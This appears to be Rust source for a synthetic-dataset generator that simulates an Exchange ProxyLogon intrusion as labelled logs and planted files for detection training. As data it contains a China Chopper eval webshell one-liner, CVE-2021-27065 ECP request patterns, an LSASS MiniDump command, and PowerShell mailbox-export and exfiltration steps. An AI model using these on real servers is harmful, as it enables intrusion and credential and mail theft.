                    format!(r"\\{HOST}\C$\inetpub\wwwroot\aspnet_client\system_web\{shell1}");
                let cmd_item = format!(
                    "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''''.Identity=''{OAB_VDIR_GUID}'''"
                );
                let url = format!(
                    "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary={canary}&a=%5D:444{stem}"
                );
                let k = self.ecp_line_raw(t - 80, &cmd_item, &url);
                self.st.mark_row(
                    &k,
                    Draft {
                        phase: "exploitation",
                        title: "CVE-2021-27065: ECP ResetOABVirtualDirectory request".into(),
                        t: Some(t - 80),
                        tags: T_CVE65,
                        evidence: "schema=ResetOABVirtualDirectory".into(),
                    },
                );
                let cmd_item = format!(
                    "'S:CMD=Remove-OabVirtualDirectory.Identity=''{OAB_VDIR_GUID}''.FilePathName=''{path}'''"
                );
                let k = self.ecp_line_raw(t - 70, &cmd_item, &url);
                self.st.mark_row(
                    &k,
                    Draft {
                        phase: "exploitation",
                        title:
                            "CVE-2021-27065: OAB VDir settings exported to aspnet_client (.aspx)"
                                .into(),
                        t: Some(t - 70),
                        tags: T_CVE65,
                        evidence: format!("aspnet_client\\system_web\\{shell1}"),
                    },
                );
                let k = self.mgmt(
                    (t - 95) * 1000,
                    "Set-OabVirtualDirectory",
                    &format!(r#"-ExternalUrl "" -Identity "{OAB_VDIR_GUID}""#),
                    "contoso.local/Users/Administrator",
                    "ECP",
                );
                self.st.mark_ev(
                    &k,
                    Draft {
                        phase: "exploitation",
                        title:
                            "CVE-2021-27065: Set-OabVirtualDirectory resets ExternalUrl (cleanup)"
                                .into(),
                        t: Some(t - 95),
                        tags: T_CVE65,
                        evidence: "Set-OabVirtualDirectory".into(),
                    },
                );
                // The back end writes the dump as the ECP app pool.
                let w = self.w3wp_ecp.clone();
                let target = format!(r"C:\inetpub\wwwroot\aspnet_client\system_web\{shell1}");
                let k = self.file_create((t - 60) * 1000, &w, &target);
                self.t_shell1 = t - 60;
                self.st.mark_ev(
                    &k,
                    Draft {
                        phase: "webshell",
                        title:
                            "Webshell file created by w3wp (MSExchangeECPAppPool) in aspnet_client"
                                .into(),
                        t: Some(t - 60),
                        tags: &["attack.t1505.003", "cve.2021-27065"],
                        evidence: shell1.clone(),
                    },
                );
            }
            t += 3_000 + self.jitter(6_000);
        }
        // CVE-2021-26858: OAB download writes outside ClientAccess\OAB.
        let t58 = t + 95_000 + self.jitter(30_000);
        let shell_58 = format!("{}.aspx", rand_letters(&mut self.rng, 8, MIXED));
        let msg = format!(
            "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{shell_58}' needs to be removed"
        );
        let k = self.oab_line(t58, "Warning", &msg);
        self.span(t58);
        self.st.mark_row(
            &k,
            Draft {
                phase: "exploitation",
                title: "CVE-2021-26858: OAB generator temporary file outside ClientAccess\\OAB"
                    .into(),
                t: Some(t58),
                tags: T_CVE58,
                evidence: format!("aspnet_client\\system_web\\{shell_58}"),
            },
        );

        let data = files::oab_dump(&format!("http://f/{script}"), OAB_VDIR_GUID);
        self.planted.push((
            format!("C/inetpub/wwwroot/aspnet_client/system_web/{shell1}"),
            data,
            Draft { phase: "webshell", title: "CVE-2021-27065 webshell: OAB VDir dump with China Chopper ExternalUrl in aspnet_client\\system_web".into(), t: Some(self.t_shell1), tags: &["attack.t1505.003", "cve.2021-27065"], evidence: "ExternalUrl".into() },
        ));
        self.shell1 = shell1;
    }
}

fn chopper(dir: &str, cmd: &str) -> String {
    format!(r#"cmd /c cd /d "{dir}"&{cmd}&echo [S]&cd&echo [E]"#)
}

const CMD_EXE: &str = r"C:\Windows\System32\cmd.exe";
const SYSTEM: &str = r"NT AUTHORITY\SYSTEM";

impl Gen {
    fn planted_files(&mut self) -> Vec<(String, Vec<u8>, Draft)> {
        std::mem::take(&mut self.planted)
    }

    /// A POST to a webshell: IIS front end (+ HttpProxy Owa row for owa/auth shells).
    fn shell_post(&mut self, t: i64, stem: &str, owa: bool, ua: &str, title: &str) {
        let r = Req {
            t,
            proto: if owa { "Owa" } else { "" },
            method: "POST",
            stem: stem.into(),
            auth_type: "FBA",
            ua: ua.into(),
            c_ip: IP_SHELL.into(),
            url_host: PUBLIC_NAME.into(),
            status: 200,
            total: 120 + self.rng.random_range(0..900),
            req_bytes: 400 + self.rng.random_range(0..1500),
            resp_bytes: 100 + self.rng.random_range(0..4000),
            cafe: owa,
            ..Default::default()
        };
        let e = self.emit(&r);
        self.span(t);
        let ev = format!("POST {stem} ");
        self.st.mark_row(
            &e.fe,
            Draft {
                phase: "webshell",
                title: format!("Webshell use: {title} [IIS]"),
                t: Some(t),
                tags: T_SHELL,
                evidence: ev,
            },
        );
        if let Some(hp) = e.hp {
            self.st.mark_row(
                &hp,
                Draft {
                    phase: "webshell",
                    title: format!("Webshell use: {title} [HttpProxy]"),
                    t: Some(t),
                    tags: T_SHELL,
                    evidence: format!(",{stem},"),
                },
            );
        }
    }

    /// cmd.exe under w3wp (China Chopper wrapper), marked in the truth.
    #[allow(clippy::too_many_arguments)]
    fn shell_cmd(
        &mut self,
        t_us: i64,
        parent: &Proc,
        dir: &str,
        cmd: &str,
        phase: &'static str,
        title: &str,
        tags: &'static [&'static str],
    ) -> Proc {
        let line = chopper(dir, cmd);
        let (k, p) = self.proc_create(t_us, CMD_EXE, &line, &format!("{dir}\\"), parent, SYSTEM);
        self.st.mark_ev(
            &k,
            Draft {
                phase,
                title: format!("cmd.exe under w3wp.exe: {title}"),
                t: Some(t_us / 1000),
                tags,
                evidence: cmd.to_string(),
            },
        );
        p
    }

    #[allow(clippy::too_many_arguments)]
    fn child(
        &mut self,
        t_us: i64,
        parent: &Proc,
        image: &str,
        cmd: &str,
        dir: &str,
        phase: &'static str,
        title: &str,
        tags: &'static [&'static str],
        evidence: &str,
    ) -> Proc {
        let (k, p) = self.proc_create(t_us, image, cmd, &format!("{dir}\\"), parent, SYSTEM);
        self.st.mark_ev(
            &k,
            Draft {
                phase,
                title: title.into(),
                t: Some(t_us / 1000),
                tags,
                evidence: evidence.into(),
            },
        );
        p
    }

    /// Steps 6–9 (2021-03-02): webshell use, second shell, LSASS dump, staging, mailbox theft.
    fn attack_post(&mut self) {
        let shell1 = self.shell1.clone();
        let dir1 = r"C:\inetpub\wwwroot\aspnet_client\system_web";
        let stem1 = format!("/aspnet_client/system_web/{shell1}");
        let w3 = self.w3wp_default.clone();
        let mut t = ts(2021, 3, 2, 3, 12, 40, 77);
        let recon: [(&str, &str, &str, &'static [&'static str]); 3] = [
            (
                "whoami",
                r"C:\Windows\System32\whoami.exe",
                "whoami",
                &["attack.t1033", "attack.t1505.003"],
            ),
            (
                "ipconfig /all",
                r"C:\Windows\System32\ipconfig.exe",
                "ipconfig  /all",
                &["attack.t1016", "attack.t1505.003"],
            ),
            (
                r#"net group "Exchange Organization administrators" /domain"#,
                r"C:\Windows\System32\net.exe",
                r#"net  group "Exchange Organization administrators" /domain"#,
                &["attack.t1069.002", "attack.t1505.003"],
            ),
        ];
        for (cmd, image, child_cmd, tags) in recon {
            self.shell_post(
                t,
                &stem1,
                false,
                UA_SHELL,
                &format!("POST to aspnet_client shell ({cmd})"),
            );
            let c = self.shell_cmd(
                t * 1000 - 90_000,
                &w3,
                dir1,
                cmd,
                "webshell",
                cmd,
                T_SHELL_CMD,
            );
            self.child(
                t * 1000 - 60_000,
                &c,
                image,
                child_cmd,
                dir1,
                "post-exploitation",
                &format!("{cmd} spawned by webshell cmd.exe"),
                tags,
                child_cmd,
            );
            t += 35_000 + self.jitter(40_000);
        }
        // Upload of a second shell (China Chopper one-liner) into owa\auth, and of 7-Zip.
        let shell2 = format!("{}.aspx", rand_letters(&mut self.rng, 10, UPPER));
        let param2 = rand_letters(&mut self.rng, 5, LOWER);
        let owa_dir = format!(r"{EXW}\FrontEnd\HttpProxy\owa\auth");
        t += 60_000;
        self.shell_post(t, &stem1, false, UA_SHELL, "upload of a second webshell");
        let t_shell2 = t - 50;
        let k = self.file_create(t_shell2 * 1000, &w3, &format!(r"{owa_dir}\{shell2}"));
        self.st.mark_ev(
            &k,
            Draft {
                phase: "webshell",
                title: "Second webshell written into owa\\auth by w3wp.exe".into(),
                t: Some(t_shell2),
                tags: T_SHELL,
                evidence: shell2.clone(),
            },
        );
        self.planted.push((
            format!("{EX}/FrontEnd/HttpProxy/owa/auth/{shell2}"),
            format!(r#"<%@ Page Language="Jscript"%><%eval(Request.Item["{param2}"],"unsafe");%>"#)
                .into_bytes(),
            Draft {
                phase: "webshell",
                title: "China Chopper one-liner webshell in owa\\auth".into(),
                t: Some(t_shell2),
                tags: T_SHELL,
                evidence: "eval(Request.Item[".into(),
            },
        ));
        t += 50_000 + self.jitter(20_000);
        self.shell_post(t, &stem1, false, UA_SHELL, "upload of 7-Zip");
        let k = self.file_create(t * 1000 - 40_000, &w3, r"C:\ProgramData\7z.exe");
        self.st.mark_ev(
            &k,
            Draft {
                phase: "post-exploitation",
                title: "7z.exe dropped into C:\\ProgramData by w3wp.exe".into(),
                t: Some(t - 40),
                tags: &["attack.t1105", "attack.t1560.001", "attack.t1505.003"],
                evidence: r"C:\ProgramData\7z.exe".into(),
            },
        );

        // Second shell, different UA (Volexity list), MSExchangeOWAAppPool.
        let w3o = self.w3wp_owa.clone();
        let stem2 = format!("/owa/auth/{shell2}");
        t = ts(2021, 3, 2, 3, 31, 5, 610);
        self.shell_post(
            t,
            &stem2,
            true,
            UA_SHELL2,
            "POST to owa\\auth shell (md C:\\root)",
        );
        self.shell_cmd(
            t * 1000 - 80_000,
            &w3o,
            &owa_dir,
            r"md C:\root",
            "webshell",
            r"md C:\root",
            T_SHELL_CMD,
        );
        t += 41_000;
        self.shell_post(
            t,
            &stem2,
            true,
            UA_SHELL2,
            "POST to owa\\auth shell (LSASS MiniDump)",
        );
        let dump =
            r"rundll32.exe C:\windows\system32\comsvcs.dll, MiniDump 680 C:\root\lsass.dmp full";
        let c = self.shell_cmd(
            t * 1000 - 900_000,
            &w3o,
            &owa_dir,
            dump,
            "post-exploitation",
            "LSASS dump via comsvcs.dll MiniDump",
            &["attack.t1003.001", "attack.t1059.003", "attack.t1505.003"],
        );
        let r = self.child(
            t * 1000 - 850_000,
            &c,
            r"C:\Windows\System32\rundll32.exe",
            dump,
            &owa_dir,
            "post-exploitation",
            "rundll32 comsvcs.dll MiniDump of LSASS (PID 680)",
            T_LSASS,
            "comsvcs.dll, MiniDump 680",
        );
        let t_dump = t - 300;
        let k = self.file_create(t_dump * 1000, &r, r"C:\root\lsass.dmp");
        self.st.mark_ev(
            &k,
            Draft {
                phase: "post-exploitation",
                title: "lsass.dmp written to C:\\root".into(),
                t: Some(t_dump),
                tags: T_LSASS,
                evidence: r"C:\root\lsass.dmp".into(),
            },
        );
        let mut dmp = b"MDMP\x93\xa7\x00\x00".to_vec();
        let mut rest = vec![0u8; 64 * 1024 - 8];
        self.rng.fill_bytes(&mut rest);
        dmp.extend_from_slice(&rest);
        self.planted.push((
            "C/root/lsass.dmp".into(),
            dmp.clone(),
            Draft {
                phase: "post-exploitation",
                title: "LSASS minidump left in C:\\root".into(),
                t: Some(t_dump),
                tags: T_LSASS,
                evidence: "MDMP".into(),
            },
        ));

        t += 12 * 60_000 + self.jitter(60_000);
        self.shell_post(
            t,
            &stem2,
            true,
            UA_SHELL2,
            "POST to owa\\auth shell (7-Zip staging)",
        );
        let zip_cmd = r"C:\ProgramData\7z.exe a C:\ProgramData\it.zip C:\root\lsass.dmp";
        let c = self.shell_cmd(
            t * 1000 - 700_000,
            &w3o,
            &owa_dir,
            zip_cmd,
            "data-theft",
            "7-Zip archive of the LSASS dump",
            &["attack.t1560.001", "attack.t1059.003", "attack.t1505.003"],
        );
        let z = self.child(
            t * 1000 - 690_000,
            &c,
            r"C:\ProgramData\7z.exe",
            r"C:\ProgramData\7z.exe  a C:\ProgramData\it.zip C:\root\lsass.dmp",
            &owa_dir,
            "data-theft",
            "7z.exe archives lsass.dmp into C:\\ProgramData\\it.zip",
            T_ARCHIVE,
            r"a C:\ProgramData\it.zip",
        );
        let t_zip = t - 200;
        let k = self.file_create(t_zip * 1000, &z, r"C:\ProgramData\it.zip");
        self.st.mark_ev(
            &k,
            Draft {
                phase: "data-theft",
                title: "it.zip created in C:\\ProgramData".into(),
                t: Some(t_zip),
                tags: T_ARCHIVE,
                evidence: r"C:\ProgramData\it.zip".into(),
            },
        );
        let tm_ = tm(t);
        let zip = files::zip_stored(
            "lsass.dmp",
            &dmp,
            tm_.y as u16,
            tm_.mo as u16,
            tm_.d as u16,
            tm_.h as u16,
            tm_.mi as u16,
            tm_.s as u16,
        );
        self.planted.push((
            "C/ProgramData/it.zip".into(),
            zip,
            Draft {
                phase: "data-theft",
                title: "Staged archive C:\\ProgramData\\it.zip".into(),
                t: Some(t_zip),
                tags: T_ARCHIVE,
                evidence: "PK".into(),
            },
        ));

        // Exchange snap-in: enumerate mailboxes, then export the CEO's mailbox into aspnet_client.
        t += 8 * 60_000 + self.jitter(60_000);
        self.shell_post(
            t,
            &stem2,
            true,
            UA_SHELL2,
            "POST to owa\\auth shell (Exchange snap-in Get-Mailbox)",
        );
        let ps = r#"powershell.exe -command "Add-PSSnapin Microsoft.Exchange.Management.Powershell.SnapIn;Get-Mailbox -ResultSize Unlimited | Select DisplayName,PrimarySmtpAddress""#;
        let c = self.shell_cmd(
            t * 1000 - 950_000,
            &w3o,
            &owa_dir,
            ps,
            "data-theft",
            "PowerShell with the Exchange snap-in",
            &["attack.t1059.001", "attack.t1059.003", "attack.t1505.003"],
        );
        self.child(
            t * 1000 - 940_000,
            &c,
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            ps,
            &owa_dir,
            "data-theft",
            "powershell.exe loads Microsoft.Exchange.Management.Powershell.SnapIn (Get-Mailbox)",
            &["attack.t1114", "attack.t1114.001", "attack.t1059.001"],
            "Add-PSSnapin Microsoft.Exchange.Management.Powershell.SnapIn",
        );
        let k = self.mgmt(
            t * 1000 - 600_000,
            "Get-Mailbox",
            r#"-ResultSize "Unlimited""#,
            SYSTEM,
            "Local-PowerShell",
        );
        self.st.mark_ev(
            &k,
            Draft {
                phase: "data-theft",
                title: "Get-Mailbox -ResultSize Unlimited run as SYSTEM through the snap-in".into(),
                t: Some(t - 600),
                tags: &["attack.t1087.003", "attack.t1114"],
                evidence: "Get-Mailbox".into(),
            },
        );

        t += 4 * 60_000 + self.jitter(60_000);
        self.shell_post(
            t,
            &stem2,
            true,
            UA_SHELL2,
            "POST to owa\\auth shell (New-MailboxExportRequest)",
        );
        let pst = format!(r"\\{HOST}\C$\inetpub\wwwroot\aspnet_client\ceo.pst");
        let ps = format!(
            r#"powershell.exe -command "Add-PSSnapin Microsoft.Exchange.Management.Powershell.SnapIn;New-MailboxExportRequest -Mailbox ceo -FilePath {pst}""#
        );
        let c = self.shell_cmd(
            t * 1000 - 990_000,
            &w3o,
            &owa_dir,
            &ps,
            "data-theft",
            "PowerShell snap-in New-MailboxExportRequest",
            &["attack.t1114.001", "attack.t1059.003", "attack.t1505.003"],
        );
        self.child(
            t * 1000 - 980_000,
            &c,
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            &ps,
            &owa_dir,
            "data-theft",
            "powershell.exe New-MailboxExportRequest of the CEO mailbox to aspnet_client",
            T_MAIL,
            "New-MailboxExportRequest",
        );
        let k = self.mgmt(
            t * 1000 - 500_000,
            "New-MailboxExportRequest",
            &format!(r#"-Mailbox "ceo" -FilePath "{pst}""#),
            SYSTEM,
            "Local-PowerShell",
        );
        self.st.mark_ev(
            &k,
            Draft {
                phase: "data-theft",
                title:
                    "MSExchange Management New-MailboxExportRequest -FilePath into aspnet_client"
                        .into(),
                t: Some(t - 500),
                tags: T_MAIL,
                evidence: "New-MailboxExportRequest".into(),
            },
        );
        let mrs = Proc {
            guid: "{2a5d3c1e-0c0a-603a-7400-000000000600}".into(),
            pid: 4172,
            image: format!(r"{EXW}\Bin\MSExchangeMailboxReplication.exe"),
            cmd: format!(r#""{EXW}\Bin\MSExchangeMailboxReplication.exe""#),
        };
        let tp = t + 95_000;
        let k = self.file_create(tp * 1000, &mrs, r"C:\inetpub\wwwroot\aspnet_client\ceo.pst");
        self.st.mark_ev(
            &k,
            Draft {
                phase: "data-theft",
                title: "MSExchangeMailboxReplication.exe writes ceo.pst into aspnet_client".into(),
                t: Some(tp),
                tags: T_MAIL,
                evidence: "ceo.pst".into(),
            },
        );

        // Copy the archive next to the PST and pull both from another address.
        t = tp + 3 * 60_000 + self.jitter(60_000);
        self.shell_post(
            t,
            &stem2,
            true,
            UA_SHELL2,
            "POST to owa\\auth shell (copy it.zip to aspnet_client)",
        );
        self.shell_cmd(
            t * 1000 - 100_000,
            &w3o,
            &owa_dir,
            r"copy C:\ProgramData\it.zip C:\inetpub\wwwroot\aspnet_client\it.zip",
            "data-theft",
            "stage it.zip in aspnet_client",
            &["attack.t1074.001", "attack.t1059.003", "attack.t1505.003"],
        );
        for (i, name) in ["it.zip", "ceo.pst"].iter().enumerate() {
            t += 70_000 + self.jitter(60_000);
            let stem = format!("/aspnet_client/{name}");
            let r = Req {
                t,
                method: "GET",
                stem: stem.clone(),
                ua: UA_PROBE.into(),
                c_ip: IP_EXFIL.into(),
                status: 200,
                total: 9_000 + self.rng.random_range(0..50_000),
                ..Default::default()
            };
            let e = self.emit(&r);
            self.span(t);
            let tags: &'static [&'static str] = if i == 0 {
                &["attack.t1560.001", "attack.t1041", "attack.t1505.003"]
            } else {
                &["attack.t1114.001", "attack.t1114", "attack.t1041"]
            };
            self.st.mark_row(
                &e.fe,
                Draft {
                    phase: "data-theft",
                    title: format!("Exfiltration: GET {stem} from {IP_EXFIL}"),
                    t: Some(t),
                    tags,
                    evidence: format!("GET {stem} "),
                },
            );
        }
        t += 5 * 60_000;
        self.shell_post(
            t,
            &stem2,
            true,
            UA_SHELL2,
            "POST to owa\\auth shell (cleanup)",
        );
        self.shell_cmd(
            t * 1000 - 100_000,
            &w3o,
            &owa_dir,
            r"del C:\inetpub\wwwroot\aspnet_client\it.zip C:\inetpub\wwwroot\aspnet_client\ceo.pst",
            "data-theft",
            "delete staged files",
            &["attack.t1070.004", "attack.t1059.003", "attack.t1505.003"],
        );
        let k = self.mgmt(
            t * 1000 + 400_000,
            "Remove-MailboxExportRequest",
            r#"-Identity "contoso.local/Users/ceo\MailboxExport" -Confirm "False""#,
            SYSTEM,
            "Local-PowerShell",
        );
        self.st.mark_ev(
            &k,
            Draft {
                phase: "data-theft",
                title: "Remove-MailboxExportRequest (cleanup of the export)".into(),
                t: Some(t + 400),
                tags: &["attack.t1114.001", "attack.t1070"],
                evidence: "Remove-MailboxExportRequest".into(),
            },
        );
    }

    /// Step 10 (2021-03-03): a second actor sweeps for known webshell names.
    fn attack_sweep(&mut self) {
        let mut t = ts(2021, 3, 3, 9, 14, 2, 233);
        let mut names: Vec<(bool, &str)> = Vec::new();
        let (mut a, mut o) = (SWEEP_ASPNET.iter(), SWEEP_OWA.iter());
        loop {
            let x = a.next().map(|n| (false, *n));
            let y = o.next().map(|n| (true, *n));
            if x.is_none() && y.is_none() {
                break;
            }
            names.extend(x);
            names.extend(y);
        }
        for (owa, name) in names {
            let stem = if owa {
                format!("/owa/auth/{name}")
            } else {
                format!("/aspnet_client/{name}")
            };
            let r = Req {
                t,
                proto: if owa { "Owa" } else { "" },
                method: "GET",
                stem: stem.clone(),
                auth_type: "FBA",
                ua: UA_SWEEP.into(),
                c_ip: IP_SWEEP.into(),
                url_host: PUBLIC_NAME.into(),
                status: 404,
                total: 2 + self.rng.random_range(0..20),
                cafe: owa,
                ..Default::default()
            };
            let e = self.emit(&r);
            self.span(t);
            self.st.mark_row(
                &e.fe,
                Draft {
                    phase: "probing",
                    title: format!("Webshell-name sweep: GET {stem} [IIS]"),
                    t: Some(t),
                    tags: T_SWEEP,
                    evidence: format!("GET {stem} "),
                },
            );
            if let Some(hp) = e.hp {
                self.st.mark_row(
                    &hp,
                    Draft {
                        phase: "probing",
                        title: format!("Webshell-name sweep: GET {stem} [HttpProxy]"),
                        t: Some(t),
                        tags: T_SWEEP,
                        evidence: format!(",{stem},"),
                    },
                );
            }
            t += 6_000 + self.jitter(9_000);
        }
    }
}
